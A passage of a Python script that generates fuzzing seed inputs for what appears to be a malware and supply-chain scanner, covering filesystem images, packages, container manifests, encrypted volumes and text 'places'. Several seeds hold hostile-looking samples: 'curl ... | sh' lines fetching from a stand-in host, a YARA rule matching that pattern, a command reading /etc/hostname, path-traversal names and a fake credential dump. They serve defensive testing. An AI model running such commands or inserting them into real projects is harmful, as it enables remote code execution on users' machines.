    seed("zip_members", "front", b"a program" * 9 + joined(first, last))
    for name in ("streamed", "zip64", "zip64-streamed", "zip64-end", "comment", "back", "same-names", "renamed", "gap"):
        seed("zip_members", "checked-" + name, (CORPUS / "zip_check" / name).read_bytes())


def squash_pack(method, data):
    """A block in this method; three of them without looking for anything to save."""
    if method == 1:
        return zlib.compress(data, 9)
    if method == 3:
        head = bytes([17 + len(data)]) if len(data) < 239 else bytes([0]) + b"\0" * ((len(data) - 19) // 255) \
            + bytes([(len(data) - 19) % 255 + 1])
        return head + data + b"\x11\0\0"
    if method == 4:
        return lzma.compress(data, lzma.FORMAT_XZ, lzma.CHECK_CRC32)
    if method == 5:
        rest = len(data) - 15
        return (bytes([0xf0]) + b"\xff" * (rest // 255) + bytes([rest % 255]) if rest >= 0 else bytes([len(data) << 4])) + data
    size = bytes([0x20, len(data)]) if len(data) < 256 else b"\x60" + struct.pack("<H", len(data) - 256)
    return b"\x28\xb5\x2f\xfd" + size + struct.pack("<I", len(data) << 3 | 1)[:3] + data


def squash(method):
    """A file in a block, one in a fragment, one with a hole, a link, a directory."""
    def meta(data):
        packed = squash_pack(method, data) if method else data
        return struct.pack("<H", len(packed) | (0 if method else 0x8000)) + packed

    def block(data):
        packed = squash_pack(method, data) if method else data
        return (data, len(data) | 1 << 24) if not method or len(packed) > 4096 else (packed, len(packed))

    def inode(kind, number):
        return struct.pack("<HHHHII", kind, 0o644, 0, 0, 1234, number)

    text = b"some text; " * 373
    first, first_size = block(text[:4096])
    tail, tail_size = block(b"a tail")
    body = first + tail
    inodes = [
        inode(2, 1) + struct.pack("<IIIII", 96, 0xffffffff, 0, 4096, first_size),
        inode(2, 2) + struct.pack("<IIII", 96, 0, 2, 4),
        inode(9, 3) + struct.pack("<QQQIIIIII", 96, 3 * 4096, 4096, 1, 0xffffffff, 0, 0xffffffff, 0, first_size)
        + struct.pack("<I", 0),
        inode(3, 4) + struct.pack("<II", 1, 5) + b"../up",
        inode(4, 5) + struct.pack("<II", 1, 0x103),
    ]
    offsets, table = [], b""
    for one in inodes:
        offsets.append(len(table))
        table += one
    listing = struct.pack("<III", len(inodes) - 1, 0, 1)
    for name, offset in zip((b"block", b"fragment", b"hole", b"link", b"null"), offsets):
        listing += struct.pack("<HHHH", offset, 0, 2, len(name) - 1) + name
    folder = len(table)
    table += inode(1, 6) + struct.pack("<IIHHI", 0, 2, len(listing) + 3, 0, 7)
    outer = struct.pack("<IIIHHHH", 0, 0, 1, folder, 0, 1, 5) + b"folder"
    root = len(table)
    table += inode(8, 7) + struct.pack("<IIIIHHI", 2, len(outer) + 3, 0, 8, 0, len(listing), 0xffffffff)
    start = 96 + len(body)
    out = body + meta(table)
    lists = 96 + len(out)
    out += meta(listing + outer)
    at = 96 + len(out)
    out += meta(struct.pack("<QII", 96 + len(first), tail_size, 0))
    fragments = 96 + len(out)
    out += struct.pack("<Q", at)
    at = 96 + len(out)
    out += meta(struct.pack("<I", 1000))
    ids = 96 + len(out)
    out += struct.pack("<Q", at)
    none = 0xffffffffffffffff
    return struct.pack("<4sIIIIHHHHHHQQQQQQQQ", b"hsqs", 7, 0, 4096, 1, method or 1, 12, 0, 1, 4, 0, root,
                       96 + len(out), ids, none, start, lists, fragments, none) + out


def images():
    for method, name in ((0, "plain"), (1, "gzip"), (3, "lzo"), (4, "xz"), (5, "lz4"), (6, "zstd")):
        seed("squashfs", name, squash(method))


# --- JSON texts ---

JSON = {
    "scalars": '[true, false, null, 0, -1, 12, 1.5e-3, 1E+9, -0.0, 9223372036854775807]',
    "strings": '{"a\\u0062": "\\"\\\\\\/\\b\\f\\n\\r\\t", "\\ud83d\\ude00": "\u00e9\U0001f600", "": ""}',
    "nested": '{"a": {"b": [[], {}, [{"c": []}]]}, "d": [1, [2, [3]]]}\n',
    "twice": '{"a": 1, "a": {"b": 2}}',
    "alone": ' "text" ',
    "number": "-12.5e7",
    "odd-unicode": '["\\ud800", "\\u0000", "\\udc00\\ud800"]',
    "not-utf8": b'["\xff\xc0\x80"]',
    "large": "[123456789012345678901234567890, 1e999]",
    "deep": "[" * 256 + "]" * 256,
    "too-deep": '{"a":' * 257 + "1" + "}" * 257,
    "cut": '{"a": [1, "b\\u00',
    "wrong": '{"a" 1}',
    "lax": "[01, +1, .5, 1., 'a', nul]",
}


def json_texts():
    for name, data in JSON.items():
        seed("json_walk", name, data)


# --- places ---

PROSE = """\
On the morning of that day two versions of a well known package were published by
somebody who should not have been able to do so. Both of them held a file which the
interpreter reads at every start, and that file started a second program.

Whoever installed one of the two should rotate every credential on the machine, look
for the service that the program leaves behind, and build the machine anew.
"""
PAGE = ("<!DOCTYPE html>\n<html><head><title>Two</title>\n%s</head><body><p>" + PROSE
        + "</p><pre>find / -name x.pth</pre></body></html>\n")
YARA = ('import "hash"\n/* Finds\n canaries. */\nprivate global rule a : b c\n{\n meta:\n  m = "{ }"\n strings:\n'
        '  $a = "curl \\"x\\" | sh }"\n  $b = /a\\/b{2,3}[}]/ nocase\n  $c = { 00 ?? [2-4] ( 01 | 02 ) }\n'
        " condition:\n  any of them // }\n}\n")
SIGMA = ("title: Canary\nid: 0\nstatus: test\nlogsource:\n    category: process_creation\ndetection:\n"
         "    selection:\n        CommandLine|contains: canary\n    condition: selection\nlevel: high\n")
LOG = "2026-03-24T10:11:12Z start\n2026-03-24T10:11:13Z canary\n  at somewhere\n2026-03-24T10:11:14Z end\n"
PLACES = {
    "prose": ("README.md", PROSE),
    "prose-quotes": ("a.txt", PROSE + "\n```bash\ncurl -s https://canary.invalid/x | sh\n```\n\n| a | b |\n- one\n    x = 1\n"),
    "prose-shell": ("README.md", PROSE + "curl -s https://canary.invalid/x | sh\nX=$(cat /etc/hostname)\n"),
    "mark": ("README", "\ufeff" + PROSE),
    "page": ("a.html", PAGE % ""),
    "page-script": ("a.html", PAGE % "<script>canary()</script>"),
    "page-data": ("x", "<?xml version=\"1.0\"?>\n<!-- saved -->\n" + PAGE % '<script type="application/ld+json">{}</script>'),
    "pdf": ("a.pdf", "%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<<>>\n%%EOF\n"),
    "yara": ("x.yar", YARA),
    "yara-short": ("x", "rule a{condition:true}rule b{condition:false}"),
    "sigma": ("x.yml", "# a comment\n---\n" + SIGMA + "---\n" + SIGMA),
    "semgrep": ("s.yaml", "rules:\n- id: x\n  message: found\n  severity: ERROR\n  languages: [python]\n  pattern: exec(...)\n"),
    "sensor": ("x.txt", '# c\nalert dns any any -> any any (msg:"x"; dns.query; sid:1; rev:1;)\n'),
    "list": ("iocs.csv", 'type,value,note\nsha256,%s,"a loader, the first"\ndomain,canary[.]invalid,C2\nip,10.0.0.1,C2\n' % SHA),
    "hashes": ("h.txt", f"# bad\n{SHA}\n{SHA}\n{SHA}\n"),
    "advisory": ("o.json", '{"schema_version":"1.6.0","id":"MAL-1","modified":"2026","summary":"s","affected":[]}'),
    "bundle": ("s.json", '{"type":"bundle","id":"b","objects":[]}'),
    "hash-json": ("i.json", '["%s","%s","%s"]' % (SHA, SHA, SHA)),
    "npm-lock": ("package-lock.json", '{"name":"x","lockfileVersion":3,"packages":{"":{}}}'),
    "yarn-lock": ("yarn.lock", '# yarn lockfile v1\n\n\n"@a/b@^1.0", c@2:\n  version "1.0"\n  dependencies:\n    d "^1.0"\n'),
    "poetry-lock": ("poetry.lock", '# generated\n[[package]]\nname = "x"\nversion = "1.0"\nfiles = [\n    {file = "x.whl", '
                    'hash = "sha256:00"},\n]\n\n[metadata]\nlock-version = "2.0"\n'),
    "go-sum": ("go.sum", "e.invalid/x v1.0.0 h1:AAAA=\ne.invalid/x v1.0.0/go.mod h1:AAAA=\n"),
    "log": ("x.log", LOG),
    "syslog": ("syslog", "Mar 24 10:11:12 h a: b\n" * 3),
    "dump": ("c", "=== SOME CREDENTIALS ===\nA_KEY=x\nexport=1\n=== OTHER THINGS ===\n"),
    "history": ("root/.zsh_history", ": 1711111111:0;curl x\n: 1711111112:0;ls\n"),
    "script": ("notes", "#!/bin/sh\ncurl -s https://canary.invalid/x | sh\n"),
    "elf": ("a", b"\x7fELF\2\1\1" + bytes(57)),
    "sqlite": ("a.db", b"SQLite format 3\0" + bytes(84)),
    "pth": ("usr/lib/python3/site-packages/a.pth", PROSE),
    "unit": ("etc/systemd/system/a.service", "[Service]\nExecStart=/bin/true\n"),
    "wide": ("README.md", ("\ufeff" + PROSE).encode("utf-16-le")),
}


def places():
    for number, (name, (path, data)) in enumerate(PLACES.items()):
        data = data if isinstance(data, bytes) else data.encode()
        flags = (name == "npm-lock") * 4 + (number % 2) * 8
        seed("place", name, path.encode() + b"\n" + struct.pack("<BH", flags, 200) + data)


# --- packages that containers are, and caches ---

FORMS = ["wheel", "egg", "sdist", "npm", "vsix", "conda", "gem", "deb", "rpm", "jar"]
PARCELS = [
    ("wheel", "a-1.dist-info/METADATA", "Name: My.Pkg\nVersion: 1.2\n"),
    ("sdist", "a-1/PKG-INFO", "Name: a\nVersion: 1.2\nRequires-Dist: b\n"),
    ("npm", "package/package.json", '{"dependencies": {"x": "9.9.9"}, "name": "@s/a", "version": "1.2.0"}'),
    ("vsix", "extension.vsixmanifest", '<a><Identity Id="a" Version="1.2" Publisher="o"/></a>'),
    ("vsix", "extension/package.json", '{"name": "a", "publisher": "o", "version": "1.2.0", "engines": {"vscode": "*"}}'),
    ("conda", "info/index.json", '{"name": "a", "version": "1.2"}'),
    ("gem", "metadata", "--- !ruby/object:Gem::Specification\nname: a\nversion: !ruby/object:Gem::Version\n  version: 1.2\n"),
    ("deb", "./control", "Package: a\nVersion: 1:1.2-3\n"),
    ("rpm", "%header", "Name: a\nVersion: 1.2-3\n"),
    ("jar", "META-INF/maven/g/a/pom.properties", "groupId=g\nartifactId=a\nversion=1\n"),
    ("jar", "META-INF/MANIFEST.MF", "Bundle-SymbolicName: g.a;x=1\r\nBundle-Version: 1.2\r\n"),
    ("npm", "@s-a-npm-1.2.0-0123456789-8.zip", ""), ("conda", "a-b-1.2-py_0.conda", ""), ("egg", "a-1.2-py3.egg", ""),
    ("jar", "a-1.2.jar", ""), ("gem", "a-1.2.gem", ""), ("npm", "node_modules/@s/a/package.json", "{}"),
    ("conda", "info-a-1.2-py_0.tar.zst", ""),
]


def parcels():
    for number, (form, name, content) in enumerate(PARCELS):
        seed("parcel", f"{number:02}-{form}", bytes([FORMS.index(form)]) + name.encode() + b"\n" + content.encode())
    line = "%s\t%s\n" % (SHA[:40], json.dumps({"key": "x:https://h/@s%2fa/-/a-1.2.0.tgz",
                                              "integrity": "sha512-" + base64.b64encode(bytes(64)).decode(), "time": 1}))
    seed("npm_cache", "entry", b"\xff\n" + line.encode())
    seed("npm_cache", "several", b"\xff" + line.replace("@s%2fa", "a").encode() * 2 + b"0\tx\n")
    for number, path in enumerate((
            "/c/http-v2/0/1/2/3/4/" + SHA[:56] + ".body", "wheels/aa/bb/cc/" + SHA + "/a-1.2-py3-none-any.whl",
            "x/archive-v0/DZw93R9uNEMwFsNPIFwYj/a-1.2.dist-info/METADATA", "wheels-v3/pypi/a/a-1.2-py3-none-any",
            "artifacts/aa/bb/cc/" + SHA + "/a-1.2.tar.gz", "_cacache/content-v2/sha512/01/23/" + SHA,
            "store/v10/files/aa/" + SHA, "npm-@s-a-1.2.0-" + SHA[:40] + "-integrity/node_modules/@s/a/x",
            ".yarn/cache/a-npm-1.2.0-0123456789-8.zip")):
        seed("cache_path", f"{number}", path)
    store = b"a\x001.2\x003\x00post\x00one\x00two\x00"
    rows = [(1000, 6, 0, 1), (1001, 6, 2, 1), (1002, 6, 6, 1), (1024, 6, 8, 1), (1065, 8, 13, 2), (1086, 8, 13, 2)]
    seed("rpm_header", "scripts", b"\x8e\xad\xe8\1\0\0\0\0" + struct.pack(">II", len(rows), len(store))
         + b"".join(struct.pack(">IIII", *row) for row in rows) + store)


IMAGE_CONFIG = {"architecture": "amd64", "os": "linux", "created": "2026-01-01T00:00:00Z",
                "config": {"Env": ["TZ=Asia/Tehran"], "Cmd": ["sh"], "Labels": {"a": "b\u00e9"}},
                "rootfs": {"type": "layers", "diff_ids": ["sha256:" + SHA]},
                "history": [{"created_by": "RUN |1 V=1.2 /bin/sh -c pip install a==$V \"b[c]==2\" && npm i x@1.0.0 # buildkit"},
                            {"created_by": "/bin/sh -c #(nop) CMD", "empty_layer": True}]}


def image_joins():
    """Programs of messages: see fuzz_image_join.c."""
    index = bytes([0, 0, 1, 33, 16, 0, 9])
    manifest = bytes([6, 33, 34, 2, 35, 36, 16, 33, 33])
    config = bytes([12, 34, 2, 43, 44, 16, 34, 34])
    lower = bytes([1, 35, 1, 0, 3, 22, 35, 35, 43])
    upper = bytes([2, 36, 0, 16, 1, 36, 1, 6, 16, 22, 36, 36, 44])
    seed("image_join", "layout", index + manifest + config + lower + upper)
    seed("image_join", "upside-down", upper + lower + config + manifest + index)
    seed("image_join", "circle", bytes([0, 0, 2, 33, 34, 16, 0, 9, 0, 33, 1, 34, 16, 33, 33, 0, 34, 1, 33, 16, 34, 34]))
    seed("image_join", "docker", bytes([18, 8, 26, 2, 16, 17, 16, 8, 9, 12, 26, 2, 43, 44, 16, 26, 26])
         + bytes([1, 16, 0, 0, 22, 16, 35, 43, 1, 17, 0, 6, 22, 17, 36, 44]))
    seed("image_join", "wrong", index + manifest + bytes([16, 33, 1, 16, 34, 34]) + lower + bytes([22, 35, 36, 43]))


def image_parts():
    descriptor = {"mediaType": "application/vnd.oci.image.layer.v1.tar+gzip", "digest": "sha256:" + SHA, "size": 7}
    config = json.dumps(IMAGE_CONFIG)
    seed("image", "config", b"\1" + config.encode())
    seed("image", "index", b"\5" + json.dumps({
        "schemaVersion": 2, "manifests": [dict(descriptor, platform={"os": "linux", "architecture": "arm64", "variant": "v8"},
                                               annotations={"org.opencontainers.image.ref.name": "latest"})],
        "subject": descriptor}).encode())
    seed("image", "manifest", b"\1" + json.dumps({
        "schemaVersion": 2, "mediaType": "application/vnd.oci.image.manifest.v1+json", "config": descriptor,
        "layers": [descriptor, 1, {"\u006cayers": None}]}).encode())
    seed("image", "docker", b"\4" + json.dumps([{"Config": SHA + ".json", "RepoTags": ["a:1"], "Layers": [SHA + "/layer.tar"]}]).encode())
    seed("image", "layout", b'\6{"imageLayoutVersion":"1.0.0"}')
    seed("image", "repositories", b"\7" + json.dumps({"a": {"1": SHA}}).encode())
    seed("image", "texts", b'\1{"rootfs":{"diff_ids":["\\ud800\\udc00\\ud800\\u0000\xff\xc3\xa4\\n"]},"config":{"labels":{"a":"1","a":"2"}}}')
    for number, name in enumerate(("blobs/sha256/" + SHA, "x/blobs/sha256/01/" + SHA + "/data", SHA + "/layer.tar",
                                   "./a/../etc/.wh.passwd", "etc/.wh..wh..opq", "a/.wh...", "../../a//b/./c/")):
        seed("image", f"name-{number}", b"\x80" + name.encode())
    for number, name in enumerate(("d/overlay2/" + SHA + "-init/diff/x", "overlay/" + SHA + "/merged/x", "vfs/dir/" + SHA + "/x",
                                   "io.containerd.snapshotter.v1.overlayfs/snapshots/7/fs/x", "overlay-layers/volatile-layers.json",
                                   "image/overlay2/layerdb/mounts/" + SHA + "/mount-id", "containers/" + SHA + "/config.v2.json")):
        seed("image", f"store-name-{number}", b"\x80" + name.encode())
    for first, (name, said) in enumerate({
            "repositories": {"Repositories": {"a": {"a:1": "sha256:" + SHA}}}, "image": {"rootfs": {"diff_ids": ["sha256:" + SHA, 1]}},
            "cache-id": None, "mount-id": None,
            "container": {"ID": SHA, "Name": "/web", "Image": "sha256:" + SHA, "Config": {"Image": "a:1"}},
            "layers": [{"id": SHA, "parent": "a"}, 1], "images": [{"id": SHA, "layer": "l", "names": ["a:1", 2], "mapped-layers": ["m"]}],
            "containers": [{"id": SHA, "layer": "l", "image": "i", "names": ["web"]}]}.items(), 64):
        seed("image", "store-" + name, bytes([first]) + (json.dumps(said) if said else SHA).encode())
    seed("package", "image-config", b"%config\n" + config.encode())
    seed("package", "dockerfile-run", b"Dockerfile\nARG V=1.2\nRUN --mount=type=cache,target=/r pip install \\\n # c\n"
         b" 'a==1' b==$V; python3 -m pip -q install \"c[d]==3\"\nRUN [\"sh\", \"-c\", \"npm i -g @s/e@1.0.0\"]\n"
         b"RUN <<EOF\nset -e\nuv pip install f==1\nEOF\nRUN bash -euo pipefail -c 'pip install g==1' | tee x\n")


def layers():
    """Entries of --layer-cache."""
    def part(kind, place, json_text=b"", paths=()):
        return (struct.pack("<QI", 1, kind) + text(place) + text(json_text) + struct.pack("<I", len(paths))
                + struct.pack(f"<{len(paths)}Q", *paths))

    def row(kind, place, said):
        return bytes([kind]) + block(place) + block(said)

    layer = {"diff_id": SHA, "media": "tar+gzip", "hops": 1, "entries": 2, "complete": True}
    blob = json.dumps({"size": 9, "sha256": SHA, "layer": layer, "document": None, "key": SHA, "depth": 1}).encode()
    inner = b"x/blobs/sha256/" + SHA.encode()
    hop = {"kind": "tar", "name": "etc/a", "mode": 420, "mtime": 1}
    found = row(1, b"etc/a", finding(chain=[hop]).encode())
    paths, told = row(2, b"", part(1, b"", paths=(4, 2**64 - 1))), row(2, b"", part(3, b"", blob))
    document = row(2, inner, part(2, inner, json.dumps({"kind": "config", "diff_ids": ["sha256:" + SHA]}).encode()))
    store = row(2, b"d", part(4, b"d", b'{"rows":[],"cut":false}'))
    name = b"blobs/sha256/" + SHA.encode() + b"\n"
    seed("layer_cache", "layer", name + found + paths + told)
    seed("layer_cache", "inner", name + document + row(2, inner, part(3, inner, blob)) + store + paths + told)
    seed("layer_cache", "file", b"\n" + paths + found + told + row(3, b"", b"{}"))


def targets():
    digest = "sha256:" + SHA
    for number, text in enumerate(("ghcr.io/a/b:1", "nginx", "localhost:5000/a_b/c--d.e:v1.0-x", "[::1]:5000/a@" + digest,
                                   "docker.io/x:y@" + digest, "192.0.2.1/a@sha512:" + SHA * 2)):
        seed("reference", f"{number}", text)
    for number, text in enumerate((
            'Bearer realm="https://auth.docker.io/token",service="registry.docker.io",scope="repository:a:pull"',
            'Basic realm="x\\"y", Bearer realm=https://token.example.org:443/t?a=b , service=s', "Negotiate, Basic",
            'BEARER realm="https://registry.example.org@evil.org/"')):
        seed("challenge", f"{number}", text)
    auth = base64.b64encode(b"ann:se:cret").decode()
    seed("docker_config", "auths", json.dumps({"auths": {
        "https://index.docker.io/v1/": {"auth": auth}, "h.io": {"identitytoken": "t", "auth": auth},
        "http://localhost:5000/v2/": {"username": "u", "password": "p"}}}))
    seed("docker_config", "helpers", json.dumps({"credHelpers": {"h.io": "pass"}, "credsStore": "secretservice"}))
    seed("docker_config", "answer", json.dumps({"ServerURL": "h.io", "Username": "u", "Secret": "s"}))
    seed("docker_config", "token", json.dumps({"Username": "<token>", "Secret": "s"}))
    row = {"mediaType": "application/vnd.oci.image.layer.v1.tar+gzip", "digest": digest, "size": 9}
    other = {**row, "digest": "sha256:" + SHA[::-1]}
    seed("manifest", "manifest", json.dumps({"schemaVersion": 2, "config": row, "layers": [other, row]}))
    seed("manifest", "index", json.dumps({"manifests": [{**row, "platform": {"os": "linux"}}, {**other, "size": -1}]}))
    seed("manifest", "foreign", json.dumps({"layers": [{**row, "urls": ["https://h/x"]}], "blobs": [other]}))
    seed("manifest", "schema1", json.dumps({"fsLayers": [{"blobSum": digest}, {"blobSum": 7}]}))

    def said(kind, number=0, reason=0, name=b"", words=b"", rows=()):
        return (struct.pack("<BQB", kind, number, reason) + block(name) + block(words) + struct.pack("<I", len(rows))
                + b"".join(map(block, rows)))

    blob = b"blobs/sha256/" + SHA.encode()
    seed("fetch_message", "order", struct.pack("<BBBIQQ", 1, 4, 3, 30, 1 << 34, 1 << 36) + block(b"h.io/a:1"))
    seed("fetch_message", "root", said(2, name=digest.encode(), words=b"id", rows=(b"a:1", b"a@" + digest.encode())))
    seed("fetch_message", "fail", said(3, words=b"no such image"))
    seed("fetch_message", "go", said(4, 1 << 34))
    seed("fetch_message", "want", said(5))
    seed("fetch_message", "done", said(7, 512, name=blob))
    seed("fetch_message", "gap", said(8, reason=15, name=blob, words=b"it took too long"))
    seed("fetch_message", "end", said(9))


def file_systems():
    places = [0, 1024, 2048, 4096, 8192, 16384, 32768, 65536]
    for version in (4, 5):
        seed("xfs", f"v{version}", xfs.Mini(version).image())
    files = {"/dir": None, "/dir/text": b"some text\n" * 500, "/dir/empty": b"", "/link": ("link", "dir/text"),
             "/packed": ("packed", b"packed " * 99), "/stored": ("stored", b"stored"), "/hole": bytes(24576) + b"x"}
    for features in (0, 1):
        seed("apfs", f"names{features}", apfs.Container([("one", files, 1, features)], 16, bare=True).image())
    for name, make in known.FORMS.items():
        at, block = next(iter(make().items()))
        if name == "ZFS":
            at, block = 16384, block[16384:16384 + 512]
        seed("known", name.lower(), bytes([places.index(at)]) + bytes(block))
    for variant in ext.VARIANTS:
        seed("ext", variant, ext.packed(variant))
    for variant, (kind, make) in forms.VARIANTS.items():
        seed("forms", variant, forms.packed(kind, make()))


def luks_seeds():
    uuid = b"01234567-89ab-cdef-0123-456789abcdef"
    first = struct.pack(">6sH32s32s32sII20s32sI40s", b"LUKS\xba\xbe", 1, b"aes", b"xts-plain64", b"sha256", 24, 64,
                        b"d" * 20, b"s" * 32, 10, uuid)
    for slot in range(8):
        first += struct.pack(">II32sII", 0x00AC71F3 if slot < 2 else 0xDEAD, 10, b"t" * 32, 2 + slot, 4)
    seed("volumes", "luks1", b"\1" + first + bytes(range(256)) * 60)

    def area(at, kdf):
        return {"type": "luks2", "key_size": 64, "af": {"type": "luks1", "stripes": 4, "hash": "sha256"},
                "area": {"type": "raw", "offset": str(at), "size": "4096", "encryption": "aes-xts-plain64",
                         "key_size": 64}, "kdf": {**kdf, "salt": base64.b64encode(b"salt" * 8).decode()}}
    text = json.dumps({
        "keyslots": {"0": area(32768, {"type": "pbkdf2", "hash": "sha256", "iterations": 10}),
                     "1": area(36864, {"type": "argon2id", "time": 1, "memory": 64, "cpus": 2})},
        "tokens": {}, "segments": {"0": {"type": "crypt", "offset": "40960", "size": "dynamic", "iv_tweak": "0",
                                         "encryption": "aes-xts-plain64", "sector_size": 512}},
        "digests": {"0": {"type": "pbkdf2", "keyslots": ["0", "1"], "segments": ["0"], "hash": "sha256", "iterations": 10,
                          "salt": base64.b64encode(b"s" * 32).decode(), "digest": base64.b64encode(b"d" * 32).decode()}},
        "config": {"json_size": "12288", "keyslots_size": "8192"}}).encode()
    whole = b""
    for at, magic in ((0, b"LUKS\xba\xbe"), (16384, b"SKUL\xba\xbe")):
        head = struct.pack(">6sHQQ48s32s64s40s48sQ184s64s", magic, 2, 16384, 3, b"label", b"sha256", b"x" * 64, uuid,
                           b"", at, b"", b"")
        whole += head.ljust(4096, b"\0") + text.ljust(12288, b"\0")
    seed("volumes", "luks2", b"\1" + whole + bytes(range(256)) * 40)


def volume_seeds():
    import bitlocker
    import volumes

    group = volumes.Group(physicals=["pv0", "pv1"])
    group.add("root", volumes.striped(0, 1, ("pv0", 0)), volumes.segment(1, 1, "zero"))
    group.add("fast", volumes.striped(0, 2, ("pv0", 1), ("pv1", 2), stripe_size=4096))
    group.add("safe", volumes.segment(0, 1, "raid1", raids='["safe_rmeta_0", 0, "safe_rimage_0", 0]'))
    group.add("safe_rimage_0", volumes.striped(0, 1, ("pv0", 3)), visible=False)
    group.add("thin", volumes.segment(0, 1, "thin"))
    seed("volumes", "lvm-text", b"\4" + group.text())
    small = group.text().replace(b"pe_start = 2048", b"pe_start = 24").replace(b"extent_size = 128", b"extent_size = 1")
    seed("volumes", "lvm", b"\0" + bytes(group.physical("pv0", text=small)[:20480]))
    maker = bitlocker.Maker()
    maker.add_startup()
    maker.add_tpm()
    closed, _ = maker.build(bytes(0x10000), copies=(0x1000, 0x4000, 0x8000), header_at=0x2000)
    seed("volumes", "bitlocker", b"\2" + closed[:0xC000])
    maker.add_clear()
    image, _ = maker.build(bytes(0x10000), copies=(0x1000, 0x4000, 0x8000), header_at=0x2000)
    seed("volumes", "bitlocker-suspended", b"\2" + image[:0xC000])
    seed("volumes", "raid1", b"\3" + volumes.raid_member(bytes(range(256)) * 32, "1.2")[:8192].ljust(65000, b"x"))
    luks_seeds()


def main():
    for make in (wire, records, rules, packs, files, content, reports, scan, packages, json_texts, places, zips, zip_members,
                 images, containers, parcels, distributions, image_parts, image_joins, layers, targets, file_systems, volume_seeds):
        make()


if __name__ == "__main__":
    main()
